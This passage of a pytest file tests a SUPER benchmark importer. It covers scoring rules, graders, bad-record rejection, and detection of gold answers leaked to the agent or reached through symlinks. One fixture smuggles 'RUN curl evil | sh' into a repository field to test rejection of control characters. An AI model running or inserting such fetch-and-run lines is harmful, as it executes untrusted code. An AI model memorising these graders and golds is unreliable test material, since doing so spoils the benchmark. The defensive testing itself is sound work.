"""SUPER: the import, both scoring readings, grading through the drivers, bad input; the real Expert
file (/work/shared/fixtures/super, 45 records), Masked and Auto records, landmarks and budgets."""

from __future__ import annotations

import json
import os
import shutil
import subprocess
import sys
import time
from datetime import datetime, timedelta
from pathlib import Path

import pytest

from conftest import run_sab
from importer_fixtures import SUPER_RECORDS, load_validate, make_repo, write_super

RULE = load_validate("super")


def evaluate(predicted, gold):
    return RULE.evaluate(predicted, gold, reading="gold-keyed")


@pytest.fixture(scope="module")
def imported(tmp_path_factory) -> Path:
    """A repository with the three toy SUPER records imported (shared: the tests only read it)."""
    repo = make_repo(tmp_path_factory.mktemp("super") / "repo")
    source = write_super(repo.parent / "expert.jsonl")
    done = run_sab("import", "super", "--from", str(source), "--json", cwd=repo, check=True)
    assert json.loads(done.stdout)["leaves"] == [f"tasks/super/{r['task_id']}" for r in SUPER_RECORDS]
    return repo


GOLD_DICT = {"acc": 0.5, "loss": 1.25}


@pytest.mark.parametrize(("predicted", "gold", "expected"), [
    ({"acc": 0.509, "loss": 1.25}, GOLD_DICT, 1.0),          # within 0.01
    ({"acc": 0.52, "loss": 1.25}, GOLD_DICT, 0.5),           # one key off
    ({"acc": 0.5}, GOLD_DICT, 0.5),                          # a missing key scores 0 (upstream's quirk gives 1.0)
    ({"acc": 0.5, "loss": 1.25, "f1": 3}, GOLD_DICT, 1.0),   # extra keys are ignored
    ({"acc": "0.5", "loss": 1.25}, GOLD_DICT, 0.5),          # a string is not a number
    ([0.5, 1.25], GOLD_DICT, 0.0),                           # type mismatch at the top
    ({"acc": 0.51, "loss": 1.25}, GOLD_DICT, 0.5),           # |0.51 - 0.5| is not < 0.01: strict, as upstream
    ({"acc": 0.49001, "loss": 1.2401}, GOLD_DICT, 1.0),
    ([1, 2, "x"], [1.0, 2.0, "x"], 1.0),                     # ints count as floats, per position
    ([1, 2], [1.0, 2.0, "x"], 2 / 3),                        # a missing position scores 0 (gold length)
    ([1, 2, "x", 9], [1.0, 2.0, "x"], 1.0),                  # extra positions are ignored
    (["x", 1, 2], [1.0, 2.0, "x"], 0.0),                     # per position, not as a set
    (" bert-base\n", "bert-base", 1.0),                      # strings after stripping
    ("bert-large", "bert-base", 0.0),
    (3, 3.004, 1.0), (3.0, 3, 1.0),
    (True, True, 1.0), (True, 1, 0.0), (1, True, 0.0),      # booleans match only booleans
    (None, 0.5, 0.0),
    ({"a": {"b": [1, 2]}, "c": "x"}, {"a": {"b": [1, 3]}, "c": "x"}, 0.75),  # nested means, gold-keyed
    ({"a": {"b": 1}}, {"a": {"b": 1, "c": 2}}, 0.5),         # a nested key left out scores 0
    ({"a": {"b": 1, "c": 2, "d": 3}}, {"a": {"b": 1, "c": 2}}, 1.0),  # a nested extra key is ignored
])
def test_scoring_table(predicted, gold, expected) -> None:
    assert evaluate(predicted, gold) == pytest.approx(expected, abs=1e-12)


def test_upstream_argument_order_never_penalises_a_missing_key() -> None:
    """super-benchmark's get_metrics calls evaluate(gold, submission): the top keys then come from the
    submission. AstaBench (the default reading) calls evaluate(submission, gold): top keys from the gold."""
    assert RULE.evaluate(GOLD_DICT, {"acc": 0.5}, reading="asta") == 1.0   # get_metrics' order
    assert RULE.evaluate({"acc": 0.5}, GOLD_DICT, reading="asta") == 0.5   # AstaBench's order
    assert evaluate({"acc": 0.5}, GOLD_DICT) == 0.5                        # gold-keyed


def test_imported_leaves_are_valid_and_keep_gold_on_the_verifier_side(imported: Path) -> None:
    assert run_sab("validate-harbor", "--all", "tasks", cwd=imported).returncode == 0
    done = run_sab("lint", *(f"tasks/super/{r['task_id']}" for r in SUPER_RECORDS), cwd=imported)
    assert done.returncode == 0, done.stdout
    leaf = imported / "tasks/super/toy-dict"
    assert json.loads((leaf / "tests/gold/answer.json").read_text()) == GOLD_DICT
    assert (leaf / "solution/answer/answer.json").read_text() == (leaf / "tests/gold/answer.json").read_text()
    assert sorted(p.name for p in (leaf / "environment").iterdir()) == ["Dockerfile"]
    instruction = (leaf / "instruction.md").read_text()
    assert instruction.startswith(SUPER_RECORDS[0]["query"]) and "/app/answer.json" in instruction
    assert "1.25" not in instruction
    import tomllib

    manifest = tomllib.loads((leaf / "task.toml").read_text())
    meta = manifest["metadata"]["sciaccel"]
    assert (meta["kind"], meta["benchmark"], meta["upstream_id"], meta["importer_version"]) == ("import", "super", "toy-dict", "1")
    assert meta["upstream_revision"].startswith("sha256:") and "source" not in meta
    assert manifest["metadata"]["super"]["split"] == "Expert"
    assert manifest["verifier"]["environment_mode"] == "separate"
    # Only the answer reaches the verifier: the trajectory is written in the agent's own container
    # (the agent could forge it), so no hook copies it and the verifier is never told of one.
    assert manifest["artifacts"] == ["/app/answer.json"]
    assert manifest["verifier"]["env"] == {"SAB_ORACLE_SOURCE": "/tests/gold", "SAB_CANDIDATE_SOURCE": "/app"}
    assert "collect" not in manifest["verifier"]
    assert "COPY . /tests/" in (leaf / "tests/Dockerfile").read_text()
    assert json.loads((leaf / "tests/checks/answer/check.json").read_text())["labels"] == ["custom", "super"]
    record = (imported / "tasks/super/toy-list/comment/upstream-record.json").read_text()
    assert record == json.dumps(SUPER_RECORDS[2]) + "\n"  # the upstream record, byte for byte
    scoring = json.loads((imported / "tasks/super/toy-list/tests/checks/answer/ic/nominal/scoring.json").read_text())
    assert scoring == {"split": "Expert", "reading": "asta", "landmarks": ["done"], "entrypoint": "run.py"}


def test_grade_answer_cli_writes_the_flat_reward(imported: Path, tmp_path: Path) -> None:
    answer = tmp_path / "answer.json"
    answer.write_text('{"acc": 0.509, "loss": 1.26}')
    done = run_sab("grade", "tasks/super/toy-dict", "--answer", str(answer), "--reward-file",
                   str(tmp_path / "verifier/reward.json"), "--json", cwd=imported)
    assert done.returncode == 0, done.stderr
    flat = json.loads((tmp_path / "verifier/reward.json").read_text())
    assert flat == {"reward": 0.5, "passed": 0, "total": 1, "output_match": 0.5, "submitted": 1.0, "trajectory": 0.0}
    assert json.loads(done.stdout) == {"leaf": "toy-dict", "benchmark": "super", **flat}
    done = run_sab("grade", "tasks/super/toy-dict", "--answer", str(answer), cwd=imported)
    assert "reward 0.5 (super leaf toy-dict)" in done.stdout and "FAIL answer: output match 0.5" in done.stdout


def _grade(repo: Path, leaf: str, text: str, tmp_path: Path) -> dict:
    from sab.importers.grading import grade_answer

    answer = tmp_path / "answer.json"
    answer.write_text(text)
    return grade_answer(repo / "tasks/super" / leaf, answer).reward


@pytest.mark.parametrize(("leaf", "answer", "reward", "submitted"), [
    ("toy-dict", '{"acc": 0.5, "loss": 1.25}', 1.0, 1),                  # the oracle
    ("toy-dict", '{"acc": 0.509, "loss": 1.26, "f1": 2}', 0.5, 1),
    ("toy-list", '[1, 2, "x"]', 1.0, 1),
    ("toy-str", '"bert-base"', 1.0, 1),
    ("toy-dict", "the accuracy is 0.5", 0.0, 1),                          # not JSON
    ("toy-dict", '{"acc": NaN, "loss": 1.25}', 0.0, 1),                   # not strict JSON
    ("toy-dict", "", 0.0, 1),
])
def test_grade_answer_through_the_drivers(imported: Path, tmp_path: Path, leaf, answer, reward, submitted) -> None:
    flat = _grade(imported, leaf, answer, tmp_path)
    assert flat["reward"] == pytest.approx(reward) and flat["output_match"] == pytest.approx(reward)
    assert flat["submitted"] == submitted and flat["total"] == 1 and flat["passed"] == (reward == 1.0)


def test_an_answer_file_that_is_a_symlink_to_the_gold_scores_zero(imported: Path, tmp_path: Path) -> None:
    """An answer left as a link to /tests/gold/answer.json would resolve in the verifier: run.sh refuses links."""
    leaf = imported / "tasks/super/toy-dict"
    source = tmp_path / "app"
    source.mkdir()
    os.symlink(leaf / "tests/gold/answer.json", source / "answer.json")
    for side, directory in (("reference", leaf / "tests/gold"), ("candidate", source)):
        subprocess.run(["bash", str(leaf / "tests/test.sh"), "produce", str(directory), str(tmp_path / side), "nominal"],
                       check=True, timeout=60)
    env = {"PATH": f"{Path(sys.executable).parent}:/usr/bin:/bin", "HARBOR_REFERENCE_DIR": str(tmp_path / "reference"),
           "HARBOR_CANDIDATE_DIR": str(tmp_path / "candidate"), "HARBOR_REWARD_FILE": str(tmp_path / "reward.json")}
    subprocess.run(["bash", str(leaf / "tests/test.sh")], check=True, env=env, timeout=60)
    assert json.loads((tmp_path / "reward.json").read_text()) == {
        "reward": 0.0, "passed": 0, "total": 1, "output_match": 0.0, "submitted": 0.0, "trajectory": 0.0}


def test_harbor_oracle_agent_copies_the_gold_answer(imported: Path, tmp_path: Path) -> None:
    """Harbor's oracle runs solution/solve.sh without tests/ beside it: the gold lands in the answer directory."""
    solution = tmp_path / "solution"
    shutil.copytree(imported / "tasks/super/toy-dict/solution", solution)
    done = subprocess.run(["bash", str(solution / "solve.sh")], env={"PATH": "/usr/bin:/bin", "SAB_ANSWER_DIR": str(tmp_path / "app")},
                          capture_output=True, text=True, timeout=60)
    assert done.returncode == 0, done.stderr
    assert json.loads((tmp_path / "app/answer.json").read_text()) == GOLD_DICT


def test_selfcheck_oracle_and_perturbed(imported: Path) -> None:
    done = run_sab("import", "selfcheck", "tasks/super/toy-dict", "--json", cwd=imported)
    assert done.returncode == 0, done.stdout + done.stderr
    (check,) = json.loads(done.stdout)
    cases = {case["case"]: case for case in check["cases"]}
    assert cases["oracle"]["reward"] == 1.0 and cases["perturbed"]["reward"] == 0.5


def test_grade_answer_errors(imported: Path, tmp_path: Path) -> None:
    from sab.errors import SabError
    from sab.importers.grading import grade_answer

    leaf = imported / "tasks/super/toy-dict"
    with pytest.raises(SabError, match="absent.json: --answer: no such file"):
        grade_answer(leaf, tmp_path / "absent.json")
    (tmp_path / "a.json").write_text("{}")
    with pytest.raises(SabError, match="--record is only for HERA-Bench"):
        grade_answer(leaf, tmp_path / "a.json", record=tmp_path / "a.json")
    done = run_sab("grade", "tasks/super/toy-dict", cwd=imported)
    assert done.returncode == 2 and "--reference and --candidate" in done.stderr


@pytest.mark.parametrize(("records", "extra", "message"), [
    (SUPER_RECORDS[:1], ["{\"task_id\": \"broken\","], ": not a JSON object"),
    ([{k: v for k, v in SUPER_RECORDS[0].items() if k != "git_commit"}], [], "line 1: git_commit: required field is missing"),
    ([{**SUPER_RECORDS[0], "answer": "acc = 0.5"}], [], "line 1: answer: answer is not JSON"),
    ([SUPER_RECORDS[0], SUPER_RECORDS[1], {**SUPER_RECORDS[2], "task_id": "toy-dict"}], [],
     "duplicate task_id 'toy-dict' (first at line 1)"),
    ([{**SUPER_RECORDS[0], "answer": "{\"acc\": null}"}], [], "line 1: answer: the gold answer['acc'] is null"),
    ([{**SUPER_RECORDS[0], "answer": "[]"}], [], "the gold answer is empty"),
    ([{**SUPER_RECORDS[0], "task_id": "../escape"}], [], "line 1: task_id: '../escape' cannot name a leaf directory"),
    ([{**SUPER_RECORDS[0], "github_repo": "https://example.invalid/x\nRUN curl evil | sh"}], [],
     "line 1: github_repo: holds the control character U+000A"),
    ([{**SUPER_RECORDS[0], "git_commit": "abc\rdef"}], [], "line 1: git_commit: holds the control character U+000D"),
])
def test_a_bad_record_is_skipped_with_its_reason_and_the_others_import(tmp_path: Path, records, extra, message) -> None:
    from sab.importers.super import import_super

    repo = make_repo(tmp_path / "repo")
    good = {"toy-list", "toy-str"} - {r["task_id"] for r in records}
    others = [r for r in SUPER_RECORDS if r["task_id"] in good]
    source = write_super(tmp_path / "bad.jsonl", records + others, extra_lines=extra)
    result = import_super(repo / "tasks", source, org="testorg")
    assert len(result.skipped) == 1 and not result.complete
    (skipped,) = result.skipped
    assert skipped.where.startswith("bad.jsonl line ") and message in skipped.reason, skipped
    imported = {path.name for path in (repo / "tasks/super").iterdir()}
    assert good <= imported and skipped.instance not in imported - {"toy-dict"}
    assert not list(repo.glob(".sab-import-*"))


def test_bad_input_through_the_cli(tmp_path: Path) -> None:
    repo = make_repo(tmp_path / "repo")
    source = write_super(tmp_path / "bad.jsonl", SUPER_RECORDS[:2], extra_lines=["not json"])
    done = run_sab("import", "super", "--from", str(source), cwd=repo)
    assert done.returncode == 1 and "Traceback" not in done.stderr + done.stdout
    assert f"skipped line 3 (bad.jsonl line 3): {source}: line 3: not a JSON object" in done.stdout
    assert "2 super leaves imported (status draft), 1 skipped" in done.stdout
    assert sorted(p.name for p in (repo / "tasks/super").iterdir()) == ["toy-dict", "toy-str"]
    as_json = json.loads(run_sab("import", "super", "--from", str(source), "--json", cwd=repo).stdout)
    reasons = [s["reason"] for s in as_json["skipped"]]
    assert as_json["complete"] is False and len(reasons) == 3
    assert reasons.count("the leaf already exists (pass --force to replace it)") == 2


def test_existing_leaves_need_force(tmp_path: Path) -> None:
    from sab.importers.super import import_super

    repo = make_repo(tmp_path / "repo")
    source = write_super(tmp_path / "expert.jsonl", SUPER_RECORDS[:1])
    import_super(repo / "tasks", source, org="testorg")
    again = import_super(repo / "tasks", source, org="testorg")
    assert again.leaves == [] and [s.reason for s in again.skipped] == ["the leaf already exists (pass --force to replace it)"]
    write_super(source, [{**SUPER_RECORDS[0], "answer": "{\"acc\": 0.75, \"loss\": 1.0}"}])
    import_super(repo / "tasks", source, org="testorg", split="Masked", force=True)
    assert json.loads((repo / "tasks/super/toy-dict/tests/gold/answer.json").read_text()) == {"acc": 0.75, "loss": 1.0}
    assert 'split = "Masked"' in (repo / "tasks/super/toy-dict/task.toml").read_text()


@pytest.mark.parametrize("failing_move", [1, 2])
def test_an_interrupted_force_swap_keeps_the_old_leaf(tmp_path: Path, monkeypatch, failing_move) -> None:
    """Ctrl-C while a leaf is being replaced: the old leaf is back in place, nothing half-written."""
    import os

    from sab.importers import common
    from sab.importers.super import import_super

    repo = make_repo(tmp_path / "repo")
    source = write_super(tmp_path / "expert.jsonl", SUPER_RECORDS[:1])
    import_super(repo / "tasks", source, org="testorg")
    leaf = repo / "tasks/super/toy-dict"
    before = {p.relative_to(leaf): p.read_bytes() for p in leaf.rglob("*") if p.is_file()}
    write_super(source, [{**SUPER_RECORDS[0], "answer": "{\"acc\": 0.75, \"loss\": 1.0}"}])
    real_replace, calls = os.replace, []

    def interrupted(src, dst):
        calls.append(dst)
        if len(calls) == failing_move:
            raise KeyboardInterrupt
        return real_replace(src, dst)

    monkeypatch.setattr(common.os, "replace", interrupted)
    with pytest.raises(KeyboardInterrupt):
        import_super(repo / "tasks", source, org="testorg", force=True)
    monkeypatch.undo()
    after = {p.relative_to(leaf): p.read_bytes() for p in leaf.rglob("*") if p.is_file()}
    assert after == before
    assert not list(repo.glob(".sab-import-*"))


def test_structural_rules_of_imported_leaves(imported: Path, tmp_path: Path) -> None:
    from sab.validate.harbor import validate_harbor

    def codes(leaf: Path) -> set[str]:
        (report,) = validate_harbor([leaf])
        return {v.code for v in report.violations}

    def fresh(name: str) -> Path:
        copy = tmp_path / name / "tasks/super/toy-dict"
        shutil.copytree(imported / "tasks/super/toy-dict", copy)
        (tmp_path / name / "code").mkdir()
        return copy

    leaf = fresh("instruction")
    with open(leaf / "instruction.md", "a") as handle:
        handle.write("\nExpected: " + (leaf / "tests/gold/answer.json").read_text())
    assert codes(leaf) == {"gold-exposed"}
    leaf = fresh("dockerfile")
    with open(leaf / "environment/Dockerfile", "a") as handle:
        handle.write("COPY ./tests/gold/ /app/hints/\n")
    assert codes(leaf) == {"gold-exposed"}
    leaf = fresh("module")
    text = (leaf / "task.toml").read_text().replace('kind = "import"', 'kind = "module"\nsource = "absent"')
    (leaf / "task.toml").write_text(text)
    # ...whose verifier env (the gold's folder, the answers' folder) no module leaf may hand its verifier
    assert codes(leaf) == {"unexpected-file", "no-acceleration-check", "source-missing", "verifier-inputs"}


def _fresh(imported: Path, tmp_path: Path, name: str, task_id: str = "toy-dict") -> Path:
    copy = tmp_path / name / "tasks/super" / task_id
    shutil.copytree(imported / "tasks/super" / task_id, copy)
    (tmp_path / name / "code").mkdir(exist_ok=True)
    return copy


def _gold_violations(leaf: Path) -> list:
    from sab.validate.harbor import validate_harbor

    (report,) = validate_harbor([leaf])
    return [v for v in report.violations if v.code == "gold-exposed"]


def test_the_prompt_field_is_fixed_by_the_benchmark_not_read_from_the_leaf(imported: Path, tmp_path: Path) -> None:
    """A leaf naming the record's answer as its prompt field, and beginning with that answer, would exempt the gold."""
    for name, field_line in (("answer-field", 'upstream_prompt_field = "answer"'), ("no-field", "")):
        leaf = _fresh(imported, tmp_path, name)
        record = json.loads((leaf / "comment/upstream-record.json").read_text())
        toml = (leaf / "task.toml").read_text()
        assert 'upstream_prompt_field = "query"' in toml
        (leaf / "task.toml").write_text(toml.replace('upstream_prompt_field = "query"', field_line))
        (leaf / "instruction.md").write_text(record["answer"] + "\n\n" + (leaf / "instruction.md").read_text())
        (found,) = _gold_violations(leaf)
        assert found.path.endswith("instruction.md") and "(byte 0)" in found.detail
        if field_line:
            assert "upstream_prompt_field is 'answer', but super's prompt is its 'query' field" in found.detail
        else:  # the field is the benchmark's: the query, which instruction.md no longer begins with
            assert "does not begin with the upstream record's 'query' verbatim" in found.detail


GOLD_FORMS = [  # toy-dict's gold {"acc": 0.5, "loss": 1.25}, in forms other than its own bytes
    ("environment/hints.txt", 'Expected result: {"acc": 0.5, "loss": 1.25} (keep private)\n'),
    ("environment/answer.json", json.dumps(GOLD_DICT, indent=4) + "\n"),
    ("environment/notes.md", '# notes\n{\n  "loss": 1.250,\n  "acc": 0.50\n}\n'),       # keys reordered, 0.50
    ("environment/hint.py", "EXPECTED = {'acc': 0.5, 'loss': 1.25}\n"),                 # as Python prints it
    ("environment/records.jsonl", json.dumps({"answer": json.dumps(GOLD_DICT)}) + "\n"),  # inside a JSON string
    ("instruction.md", "\nExpected:\n```json\n" + json.dumps(GOLD_DICT, indent=2) + "\n```\n"),
    ("instruction.md", '\nExpected: {"loss":1.250,"acc":0.5}\n'),
]


@pytest.mark.parametrize(("where", "text"), GOLD_FORMS)
def test_the_gold_in_another_form_is_still_exposed(imported: Path, tmp_path: Path, where, text) -> None:
    leaf = _fresh(imported, tmp_path, "leak")
    with open(leaf / where, "a", encoding="utf-8") as handle:
        handle.write(text)
    (found,) = _gold_violations(leaf)
    assert found.path.endswith(where) and "tests/gold/answer.json" in found.detail
    if where == "instruction.md":
        assert "outside the upstream prompt" in found.detail


def test_short_golds_are_looked_for_and_common_text_is_not(tmp_path: Path) -> None:
    """{"bleu": 0.188} is 15 bytes: a JSON structure is looked for whole, however short; a bare scalar is not."""
    from sab.importers.super import import_super

    repo = make_repo(tmp_path / "repo")
    records = [{**SUPER_RECORDS[0], "task_id": "bleu", "answer": '{"bleu": 0.188}'},
               {**SUPER_RECORDS[0], "task_id": "scalar", "answer": "0.5"},
               {**SUPER_RECORDS[0], "task_id": "tiny", "answer": '{"a": 1}'}]
    import_super(repo / "tasks", write_super(tmp_path / "short.jsonl", records), org="testorg")
    for task_id in ("bleu", "scalar", "tiny"):
        assert _gold_violations(repo / "tasks/super" / task_id) == []
    leaf = repo / "tasks/super/bleu"
    with open(leaf / "instruction.md", "a") as handle:
        handle.write('\nThe paper reports {"bleu":0.188}.\n')
    (found,) = _gold_violations(leaf)
    assert found.path.endswith("instruction.md")
    (leaf / "environment/README").write_text("bleu = {'bleu': 0.188}\n")
    assert len(_gold_violations(leaf)) == 2
    for task_id, text in (("scalar", "lr 0.5, dropout 0.5\n"), ("tiny", 'x = {"a": 1}\n')):
        leaf = repo / "tasks/super" / task_id
        with open(leaf / "instruction.md", "a") as handle:
            handle.write(text)
        (leaf / "environment/README").write_text(text)
        assert _gold_violations(leaf) == [], task_id  # too common a text to be evidence of a leak


# ---------------------------------------------------------------- the real Expert file (issue 13)

EXPERT = Path(os.environ.get("SAB_SUPER_EXPERT", "/work/shared/fixtures/super/expert-reconstructed.jsonl"))


def expert_records() -> list[dict]:
    if not EXPERT.is_file():
        pytest.skip(f"no copy of the 45 SUPER Expert records at {EXPERT} (set SAB_SUPER_EXPERT)")
    return [json.loads(line) for line in EXPERT.read_text(encoding="utf-8").split("\n") if line.strip()]


def record_of(task_id: str) -> dict:
    return next(record for record in expert_records() if record["task_id"] == task_id)


@pytest.fixture(scope="module")
def expert(tmp_path_factory) -> tuple[Path, subprocess.CompletedProcess]:
    """The real Expert file imported in one call (shared: the tests only read it)."""
    expert_records()
    repo = make_repo(tmp_path_factory.mktemp("expert") / "repo")
    return repo, run_sab("import", "super", "--from", str(EXPERT), "--json", cwd=repo)


def test_the_real_expert_file_imports_in_full_in_one_call(expert) -> None:
    """mera and mixup-amp show their answer template, equal to the gold, in upstream's own query."""
    repo, done = expert
    assert done.returncode == 0, done.stdout + done.stderr
    report = json.loads(done.stdout)
    assert report["complete"] is True and report["skipped"] == []
    assert report["leaves"] == [f"tasks/super/{r['task_id']}" for r in expert_records()] and len(report["leaves"]) == 45
    assert "bug in the importer" not in done.stdout + done.stderr
    assert run_sab("validate-harbor", "--all", "tasks", cwd=repo).returncode == 0
    for task_id in ("mera", "mixup-amp"):
        leaf = repo / "tasks/super" / task_id
        gold = (leaf / "tests/gold/answer.json").read_text().strip()
        assert gold in (leaf / "instruction.md").read_text()  # what upstream shows, and nothing more


@pytest.mark.e2e
def test_every_real_leaf_passes_selfcheck(expert) -> None:
    repo, _ = expert
    leaves = [f"tasks/super/{r['task_id']}" for r in expert_records()]
    done = run_sab("import", "selfcheck", *leaves, "--json", cwd=repo)
    assert done.returncode == 0, done.stdout + done.stderr
    checks = json.loads(done.stdout)
    assert len(checks) == 45 and all(check["ok"] for check in checks)
    for check in checks:
        cases = {case["case"]: case for case in check["cases"]}
        assert cases["oracle"]["reward"] == 1.0 and cases["perturbed"]["reward"] < 1.0, check


def _violations(leaf: Path) -> list:
    from sab.validate.harbor import validate_harbor

    (report,) = validate_harbor([leaf])
    return report.violations


def _copy_leaf(repo: Path, task_id: str, tmp_path: Path, name: str) -> Path:
    copy = tmp_path / name / "tasks/super" / task_id
    shutil.copytree(repo / "tasks/super" / task_id, copy)
    (tmp_path / name / "code").mkdir()
    return copy


def test_a_leak_beyond_what_upstream_shows_is_still_reported(expert, tmp_path: Path) -> None:
    """Only gold text inside the verified upstream prompt is exempt; an editor cannot widen that prompt."""
    repo, _ = expert
    gold = (repo / "tasks/super/mera/tests/gold/answer.json").read_text().strip()
    record_text = (repo / "tasks/super/mera/comment/upstream-record.json").read_text()

    def leak(name: str, change) -> str:
        leaf = _copy_leaf(repo, "mera", tmp_path, name)
        change(leaf)
        found = _violations(leaf)
        assert {v.code for v in found} == {"gold-exposed"}, (name, found)
        return " ".join(v.detail for v in found)

    assert _violations(_copy_leaf(repo, "mera", tmp_path, "untouched")) == []

    def append(leaf: Path) -> None:
        with open(leaf / "instruction.md", "a") as handle:
            handle.write(f"\nExpected: {gold}\n")
    assert "outside the upstream prompt" in leak("appended", append)

    def reformatted(leaf: Path) -> None:  # the same value, spaced and indented differently
        with open(leaf / "instruction.md", "a") as handle:
            handle.write("\nExpected:\n" + json.dumps(json.loads(gold), indent=3) + "\n")
    assert "outside the upstream prompt" in leak("reformatted", reformatted)

    def prefix(leaf: Path) -> None:  # the shown text itself edited in instruction.md
        (leaf / "instruction.md").write_text(f"Expected: {gold}\n" + (leaf / "instruction.md").read_text())
    assert "does not begin with the upstream record's 'query'" in leak("prefixed", prefix)

    def launder(leaf: Path) -> None:  # the recorded upstream query edited to match: its digest no longer does
        record = json.loads(record_text)
        record["query"] = f"Expected: {gold}\n" + record["query"]
        (leaf / "comment/upstream-record.json").write_text(json.dumps(record) + "\n")
        (leaf / "instruction.md").write_text(f"Expected: {gold}\n" + (leaf / "instruction.md").read_text())
    assert "does not match upstream_record_sha256" in leak("laundered", launder)

    def unrecorded(leaf: Path) -> None:
        (leaf / "comment/upstream-record.json").unlink()
    assert "contains the content of" in leak("no-record", unrecorded)

    def undeclared(leaf: Path) -> None:
        text = (leaf / "task.toml").read_text()
        (leaf / "task.toml").write_text("\n".join(line for line in text.splitlines()
                                                  if not line.startswith("upstream_record_sha256")) + "\n")
    assert "does not state upstream_record_sha256" in leak("undeclared", undeclared)

    def environment(leaf: Path) -> None:
        shutil.copyfile(leaf / "tests/gold/answer.json", leaf / "environment/answer.json")
    assert "is a copy of" in leak("environment", environment)


def test_each_record_digest_is_that_of_the_published_line(expert) -> None:
    """What the leak rule trusts is checkable by anyone holding the upstream file: line N's SHA-256."""
    import hashlib
    import tomllib

    repo, _ = expert
    lines = EXPERT.read_text(encoding="utf-8").split("\n")
    for record in expert_records():
        leaf = repo / "tasks/super" / record["task_id"]
        meta = tomllib.loads((leaf / "task.toml").read_text())["metadata"]["super"]
        line = lines[meta["upstream_line"] - 1]
        assert json.loads(line)["task_id"] == record["task_id"]
        digest = "sha256:" + hashlib.sha256((line + "\n").encode()).hexdigest()
        assert meta["upstream_record_sha256"] == digest and meta["upstream_prompt_field"] == "query"
        assert "sha256:" + hashlib.sha256((leaf / "comment/upstream-record.json").read_bytes()).hexdigest() == digest


def test_upstream_budgets_are_the_leaf_limits(expert) -> None:
    """SUPER: 30 min of command execution, 5 min per command, a 60-min environment, 100 steps."""
    import tomllib

    repo, _ = expert
    leaf = repo / "tasks/super/colbert"
    manifest = tomllib.loads((leaf / "task.toml").read_text())
    assert manifest["agent"]["timeout_sec"] == 3600.0
    meta = manifest["metadata"]["super"]
    assert (meta["compute_time_limit_s"], meta["cell_timeout_s"], meta["max_iterations"],
            meta["context_token_budget"]) == (1800, 300, 100, 600000)
    instruction = (leaf / "instruction.md").read_text()
    assert "30 minutes of total command execution" in instruction and "5 minutes per command" in instruction
    assert "closed after 60 minutes" in instruction


# ---------------------------------------------------------------- the two readings


def upstream_reading(submission, gold, epsilon=0.01):
    """SUPER's evaluate as AstaBench calls it, evaluate(submission, gold), restated independently.

    Upstream passes its two arguments back swapped at every object, so the side whose keys (and
    list length) count alternates with each level of objects: the gold's at the top, the
    submission's one object down. Ints and booleans are numbers; an empty counting side or two
    nulls raise.
    """
    def number(value):
        return float(value) if isinstance(value, int) else value

    def compare(sub, ref, gold_leads):
        lead, follow = (number(ref), number(sub)) if gold_leads else (number(sub), number(ref))
        if not isinstance(lead, type(follow)):
            return 0.0
        if isinstance(lead, list):
            pairs = list(zip(sub, ref))
            return sum(compare(s, r, gold_leads) for s, r in pairs) / len(lead)
        if isinstance(lead, dict):
            if gold_leads:
                values = [compare(sub.get(key), ref[key], False) for key in ref]
            else:
                values = [compare(sub[key], ref.get(key), True) for key in sub]
            return sum(values) / len(lead)
        if isinstance(lead, str):
            return float(lead.strip() == follow.strip())
        if isinstance(lead, float):
            return float(abs(lead - follow) < epsilon)
        raise ValueError("two nulls")

    try:
        return compare(submission, gold, True)
    except (ValueError, ZeroDivisionError):
        return 0.0


@pytest.mark.parametrize(("predicted", "gold", "expected"), [
    ({"acc": 0.5}, GOLD_DICT, 0.5),                                        # top level: the gold's keys
    ({"acc": 0.5, "loss": 1.25, "f1": 3}, GOLD_DICT, 1.0),
    ({"e": {"f1": 0.5}}, {"e": {"f1": 0.5, "em": 0.25}}, 1.0),             # one object down: the submission's keys
    ({"e": {"f1": 0.5, "em": 0.25, "x": 1}}, {"e": {"f1": 0.5, "em": 0.25}}, 2 / 3),  # an extra key there scores 0
    ({"e": {}}, {"e": {"f1": 0.5}}, 0.0),                                  # upstream raises (empty counting side)
    ({"e": {"d": {"a": 1}}}, {"e": {"d": {"a": 1, "b": 2}}}, 0.5),         # two objects down: the gold's keys again
    ({"e": [1]}, {"e": [1, 2]}, 1.0),                                      # a list in an object: the submission's length
    ([{"a": 1}], [{"a": 1, "b": 2}], 0.5),                                 # objects in a top list: the gold's keys
    ({"x": True}, {"x": 1}, 1.0), ({"x": 0}, {"x": False}, 1.0),           # booleans are numbers
    (True, 1.004, 1.0),
    ({"x": None}, {"x": 0.5}, 0.0),
])
def test_the_asta_reading(predicted, gold, expected) -> None:
    assert RULE.output_match(predicted, gold, 0.01, "asta")[0] == pytest.approx(expected, abs=1e-12)
    assert upstream_reading(predicted, gold) == pytest.approx(expected, abs=1e-12)


def _submissions(gold) -> list:
    """Constructed answers around a gold: itself, a value off, a nested key dropped or added, an
    emptied nested object, numbers near 0 or 1 given as booleans."""
    import copy

    from sab.importers.grading import _perturb

    out = [gold]

    out.append(_perturb(gold)[0])

    def nested_objects(value, path=()):
        if isinstance(value, dict):
            for key, item in value.items():
                if isinstance(item, dict):
                    yield path + (key,)
                yield from nested_objects(item, path + (key,))
        elif isinstance(value, list):
            for index, item in enumerate(value):
                yield from nested_objects(item, path + (index,))

    def at(value, path):
        for step in path:
            value = value[step]
        return value

    for path in nested_objects(gold):
        for change in ("drop", "add", "empty"):
            answer = copy.deepcopy(gold)
            target = at(answer, path)
            if change == "drop":
                target.pop(next(iter(target)))
            elif change == "add":
                target["extra"] = 1.0
            else:
                target.clear()
            out.append(answer)

    def booleans(value):
        if isinstance(value, bool):
            return value
        if isinstance(value, (int, float)) and min(abs(value), abs(value - 1)) < 0.01:
            return abs(value - 1) < 0.01
        if isinstance(value, dict):
            return {key: booleans(item) for key, item in value.items()}
        if isinstance(value, list):
            return [booleans(item) for item in value]
        return value

    out.append(booleans(gold))
    return out


def test_the_leaf_rule_agrees_with_an_independent_upstream_reading_on_the_real_golds() -> None:
    compared = 0
    for record in expert_records():
        gold = json.loads(record["answer"])
        for answer in _submissions(gold):
            assert RULE.output_match(answer, gold, 0.01, "asta")[0] == pytest.approx(upstream_reading(answer, gold)), (
                record["task_id"], answer)
            compared += 1
    assert compared >= 150


def test_where_the_two_readings_differ_on_the_real_file() -> None:
    """Measured on the 45 golds: the readings part on 5 tasks by nesting (objects inside objects;
    pie-perf's objects inside a list score alike) and on 7 by booleans (numbers within 0.01 of 0 or 1)."""
    nesting, booleans = set(), set()
    for record in expert_records():
        gold = json.loads(record["answer"])
        for answer in _submissions(gold):
            asta = RULE.output_match(answer, gold, 0.01, "asta")[0]
